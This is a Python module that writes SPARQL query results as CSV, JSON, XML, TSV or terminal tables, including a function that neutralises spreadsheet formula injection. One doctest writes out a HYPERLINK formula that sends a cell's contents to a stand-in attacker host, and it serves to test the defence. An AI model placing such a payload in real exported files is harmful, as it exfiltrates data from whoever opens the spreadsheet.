"""Query results as CSV, TSV, JSON, XML or a terminal table.

``eukg query`` writes a local answer from pyoxigraph's own terms, as they come, with no rdflib term in
between (:func:`write_answer`): SPARQL JSON, XML and TSV by pyoxigraph's result serialisers, the
spreadsheet CSV, the JSON records and the table from each term's value. The functions that take a
:class:`kg.sparql.queries.Result` (rdflib terms) serve the rest: remote answers, the release's tables.

Two CSV forms: :func:`to_csv` is the standard SPARQL CSV results form (what the endpoint's ``text/csv``
answer holds, and what the tests compare engines with); :func:`to_spreadsheet_csv` is for files people
open in a spreadsheet (``eukg query --format csv``, the release's ``csv/`` files, the query page's CSV
download through :func:`spreadsheet_csv`). It neutralises formula injection as the OWASP CSV-injection
guidance says: a text cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a
single quote in front, so a spreadsheet shows it as text instead of running it; a cell that is a number
(``-12.5``, ``+3``, ``1e-3``) stays a number. The RDF keeps every value as it was.
"""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Callable, Iterable, Sequence
from json.encoder import encode_basestring
from typing import BinaryIO, TextIO

import pyoxigraph as ox
from rdflib import Literal, URIRef
from rdflib.query import Result as RdflibResult
from rdflib.term import Node, Variable

from kg.errors import QueryError
from kg.formats import RDF_SYNTAXES, RdfSyntax, ResultsFormat, UnknownFormat, any_format, rdf_format, results_format
from kg.namespaces import PREFIXES
from kg.sparql.queries import NamedQuery, Result, evaluation_errors
from kg.store import to_oxigraph

#: What ``eukg query --format`` writes for a SELECT query (``json`` is :func:`to_json`'s records, as it always was;
#: the standard SPARQL JSON is ``srj`` or ``sparql-json``); any RDF syntax of :mod:`kg.formats` writes the triples
#: of a CONSTRUCT or DESCRIBE query.
FORMATS = ("table", "csv", "tsv", "json", "records", "srj", "xml")
#: The names that ask ``eukg query`` for the JSON records, not the SPARQL JSON results the registry calls ``json``.
RECORDS_NAMES = ("json", "records", "objects")
#: XSD datatypes whose values a JSON record holds as numbers (rdflib's ``toPython`` gives an int for each).
_XSD = "http://www.w3.org/2001/XMLSchema#"
INTEGER_TYPES = frozenset(_XSD + name for name in (
    "integer", "int", "long", "short", "byte", "nonNegativeInteger", "positiveInteger", "nonPositiveInteger",
    "negativeInteger", "unsignedLong", "unsignedInt", "unsignedShort", "unsignedByte"))
BOOLEAN_TYPE = _XSD + "boolean"
_INTEGER = re.compile(r"\s*[+-]?\d+\s*")

#: First characters that make a spreadsheet read a cell as a formula (OWASP, "CSV Injection").
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
#: The project's prefixes, longest namespace first (``orgn:`` before a shorter namespace that also fits).
_BY_LENGTH = sorted(PREFIXES.items(), key=lambda item: -len(item[1]))
#: What follows the namespace in a prefixed name a table shows: no slash, space or other delimiter.
_LOCAL = re.compile(r"[\w.~%-]+(?<!\.)")
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def plain(term: Node | None) -> str:
    """Return a term as the SPARQL CSV results format writes it: the IRI, or the literal's lexical form."""
    if term is None:
        return ""
    return str(term)


def to_records(result: Result) -> list[dict[str, object]]:
    """Return the rows as dicts; integers and booleans keep their JSON type, other values are strings."""
    records = []
    for row in result.rows:
        record: dict[str, object] = {}
        for column, term in zip(result.columns, row, strict=True):
            if isinstance(term, Literal) and isinstance(term.toPython(), (bool, int)) and not isinstance(
                term.toPython(), float
            ):
                record[column] = term.toPython()
            else:
                record[column] = None if term is None else plain(term)
        records.append(record)
    return records


def to_csv(result: Result) -> str:
    """Return the result as CSV with a header line of the column names."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    writer.writerow(result.columns)
    writer.writerows([plain(term) for term in row] for row in result.rows)
    return buffer.getvalue()


def spreadsheet_cell(value: str) -> str:
    r"""Return ``value`` as a spreadsheet shows it as text: a quote in front when it would start a formula.

    Examples
    --------
    >>> print(spreadsheet_cell('=HYPERLINK("http://evil.example/?x="&A1,"click")'))
    '=HYPERLINK("http://evil.example/?x="&A1,"click")
    >>> [spreadsheet_cell(v) for v in ("-12.5", "+3", "@SUM(1+1)", "-2+3", chr(9) + "x", "Timișoara", "")]
    ['-12.5', '+3', "'@SUM(1+1)", "'-2+3", "'\tx", 'Timișoara', '']
    """
    if value.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


def spreadsheet_csv(columns: Sequence[str], rows: Iterable[Iterable[str | None]]) -> str:
    """Return CSV for a spreadsheet: a header line of ``columns``, then ``rows`` through :func:`spreadsheet_cell`.

    Lines end in CRLF (RFC 4180), so a cell that holds a line break or a carriage return is quoted.

    ``rows`` hold plain strings (None for an unbound cell), as SPARQL JSON results give them: the query
    page's CSV download uses this too.
    """
    buffer = io.StringIO()
    # CRLF line ends (RFC 4180, as spreadsheets write CSV): with them, csv quotes a cell holding a CR too
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow([spreadsheet_cell(column) for column in columns])
    writer.writerows([spreadsheet_cell(cell or "") for cell in row] for row in rows)
    return buffer.getvalue()


def to_spreadsheet_csv(result: Result) -> str:
    """Return the result as CSV for a spreadsheet (:func:`to_csv` with formula injection neutralised)."""
    return spreadsheet_csv(result.columns, ([plain(term) for term in row] for row in result.rows))


def to_json(result: Result) -> str:
    """Return the result as a JSON list of objects, one per row."""
    return json.dumps(to_records(result), ensure_ascii=False, indent=2)


def prefixed(term: Node | None) -> str:
    """Return a term as a table shows it: an IRI as a prefixed name of the project's prefix map where one fits.

    >>> prefixed(URIRef("https://w3id.org/eu-regional-kg/id/organisation/city-of-turin"))
    'orgn:city-of-turin'
    >>> prefixed(URIRef("http://data.europa.eu/nuts/code/PL81")), prefixed(URIRef("https://example.org/x"))
    ('nuts:PL81', 'https://example.org/x')
    """
    if not isinstance(term, URIRef):
        return plain(term)
    return _prefixed_iri(str(term))


def to_table(result: Result, title: str | None = None, wide: bool = False) -> rich.table.Table:  # noqa: F821
    """Return the result as a rich table for the terminal: IRIs as prefixed names, or whole when ``wide``."""
    from rich.table import Table

    show = plain if wide else prefixed
    table = Table(title=title, show_lines=False)
    for column in result.columns:
        table.add_column(column, overflow="fold")
    for row in result.rows:
        table.add_row(*(show(term) for term in row))
    return table


def output_format(value: str) -> ResultsFormat | RdfSyntax:
    """Return what ``eukg query --format VALUE`` writes: one of :data:`FORMATS` or an RDF syntax (by any alias).

    ``json`` is the JSON records (:data:`RECORDS_NAMES`); SPARQL JSON results are ``srj``, ``sparql-json`` or
    their media type. ``xml`` is SPARQL XML results; RDF/XML is ``rdfxml`` (or ``rdf``, ``application/rdf+xml``).

    >>> output_format("turtle").name, output_format("json").name, output_format("srj").name, output_format("srx").name
    ('ttl', 'records', 'json', 'xml')
    """
    if value.strip().lower() in RECORDS_NAMES:
        return results_format("records")
    try:
        fmt = any_format(value)
    except UnknownFormat:
        fmt = None
    if fmt is None or (isinstance(fmt, ResultsFormat) and fmt.name not in (*FORMATS, "json")):
        known = [*FORMATS, *(name for syntax in RDF_SYNTAXES.values() for name in (syntax.name, *syntax.aliases))]
        accepted = [*FORMATS, "or an RDF syntax (ttl, nt, nq, trig, jsonld, rdfxml, n3)"]
        raise UnknownFormat("query output", value, accepted, known)
    return fmt


def to_sparql_results(result: Result, fmt: str | ResultsFormat) -> str:
    """Return the rows in a SPARQL results format that rdflib writes (``xml``, ``json``, ``csv``)."""
    answer = RdflibResult("SELECT")
    answer.vars = [Variable(column) for column in result.columns]
    answer.bindings = [{Variable(column): term for column, term in zip(result.columns, row, strict=True)
                        if term is not None} for row in result.rows]
    return answer.serialize(format=results_format(fmt).rdflib, encoding="utf-8").decode("utf-8")


def construct(query: NamedQuery, store: ox.Store, values: dict[str, str] | None = None) -> list[ox.Triple]:
    """Return the triples of a CONSTRUCT or DESCRIBE ``query`` over the union of the store's graphs.

    The parameters are bound with pyoxigraph's ``substitutions`` (each must be in scope in the query).
    """
    substitutions = {ox.Variable(name): to_oxigraph(term) for name, term in query.terms(values).items()}
    with evaluation_errors(query):
        answer = store.query(query.text, use_default_graph_as_union=True, substitutions=substitutions)
        if not isinstance(answer, ox.QueryTriples):
            raise QueryError(f"{query.path}: an RDF --format writes the triples of a CONSTRUCT or DESCRIBE query, "
                             "and this query is not one (use table, csv, tsv, json, srj or xml)")
        return list(answer)


def to_rdf(triples: list[ox.Triple], syntax: str | RdfSyntax) -> bytes:
    """Return ``triples`` serialised by pyoxigraph in an RDF syntax of :mod:`kg.formats` (any alias)."""
    return ox.serialize(triples, format=rdf_format(syntax).oxigraph, prefixes=PREFIXES)


# -- answers of the embedded store, written from pyoxigraph's terms --------------------------------------------


def _value(term: ox.NamedNode | ox.BlankNode | ox.Literal | None) -> str:
    """Return a pyoxigraph term as the SPARQL CSV results format writes it (:func:`plain` for rdflib terms)."""
    return "" if term is None else term.value


def write_spreadsheet_csv(answer: ox.QuerySolutions, out: TextIO) -> None:
    """Write ``answer`` to ``out`` as :func:`to_spreadsheet_csv` does, a row at a time as the store gives it."""
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow([spreadsheet_cell(v.value) for v in answer.variables])
    cell = spreadsheet_cell
    writer.writerows([cell(term.value) if term is not None else "" for term in solution] for solution in answer)


def _json_value(term: ox.NamedNode | ox.BlankNode | ox.Literal | None) -> str:
    """Return the JSON text of a term's value in a record: a number or boolean where its datatype is one."""
    if term is None:
        return "null"
    if isinstance(term, ox.Literal):
        datatype = term.datatype.value
        if datatype in INTEGER_TYPES and _INTEGER.fullmatch(term.value):
            return str(int(term.value))
        if datatype == BOOLEAN_TYPE:
            return "true" if term.value in ("true", "1") else "false"
    return encode_basestring(term.value)


def write_records(answer: ox.QuerySolutions, out: TextIO) -> None:
    """Write ``answer`` to ``out`` as :func:`to_json` does (the same text), a row at a time.

    Each value is encoded by the json module's own string encoder; the layout is ``json.dumps(…, indent=2)``'s.
    """
    keys = [encode_basestring(v.value) for v in answer.variables]
    first = True
    for solution in answer:
        fields = ",\n    ".join(f"{key}: {_json_value(term)}" for key, term in zip(keys, solution, strict=True))
        out.write(("[\n  {" if first else ",\n  {") + (f"\n    {fields}\n  }}" if fields else "}"))
        first = False
    out.write("[]\n" if first else "\n]\n")


def prefixed_value(term: ox.NamedNode | ox.BlankNode | ox.Literal | None) -> str:
    """Return a pyoxigraph term as :func:`prefixed` shows an rdflib term: an IRI as a prefixed name where one fits.

    >>> prefixed_value(ox.NamedNode("http://data.europa.eu/nuts/code/PL81")), prefixed_value(ox.Literal("PL81"))
    ('nuts:PL81', 'PL81')
    """
    if not isinstance(term, ox.NamedNode):
        return _value(term)
    return _prefixed_iri(term.value)


def _prefixed_iri(iri: str) -> str:
    """Return ``iri`` as a prefixed name of the project's prefix map where one fits, else whole."""
    for prefix, namespace in _BY_LENGTH:
        if iri.startswith(namespace) and _LOCAL.fullmatch(iri[len(namespace):]):
            return f"{prefix}:{iri[len(namespace):]}"
    return iri


def answer_table(answer: ox.QuerySolutions, title: str | None = None,
                 wide: bool = False) -> rich.table.Table:  # noqa: F821
    """Return ``answer`` as :func:`to_table` shows a result: IRIs as prefixed names, or whole when ``wide``."""
    from rich.table import Table

    show = _value if wide else prefixed_value
    table = Table(title=title, show_lines=False)
    for variable in answer.variables:
        table.add_column(variable.value, overflow="fold")
    for solution in answer:
        table.add_row(*(show(term) for term in solution))
    return table


def _serialiser(fmt: ResultsFormat) -> Callable[[ox.QuerySolutions, BinaryIO], None]:
    """Return the writer of pyoxigraph's own serialiser of ``fmt`` (SPARQL JSON, XML, CSV or TSV)."""

    def write(answer: ox.QuerySolutions, out: BinaryIO) -> None:
        answer.serialize(out, format=fmt.oxigraph)
        if fmt.name in ("json", "xml"):
            out.write(b"\n")

    return write


def write_answer(answer: ox.QuerySolutions, fmt: ResultsFormat, text: TextIO, binary: BinaryIO,
                 title: str | None = None, wide: bool = False) -> None:
    """Write a SELECT answer of the store in ``fmt`` (from :func:`output_format`), as the rows come.

    ``text`` takes the spreadsheet CSV and the JSON records, ``binary`` what pyoxigraph's serialisers write
    (SPARQL JSON, XML, TSV); the table is printed with rich. Read the answer inside
    :func:`kg.sparql.queries.evaluation_errors`: the store evaluates it while it is written.
    """
    if fmt.name == "csv":
        write_spreadsheet_csv(answer, text)
    elif fmt.name == "records":
        write_records(answer, text)
    elif fmt.oxigraph is not None:
        text.flush()
        _serialiser(fmt)(answer, binary)
        binary.flush()
    else:
        from rich.console import Console

        Console().print(answer_table(answer, title=title, wide=wide))


def remote_answer(result: Result) -> ox.QuerySolutions:
    """Return a remote endpoint's rows as pyoxigraph solutions, so that they are written as a local answer is."""
    return ox.parse_query_results(to_sparql_results(result, "json").encode("utf-8"),
                                  format=ox.QueryResultsFormat.JSON)
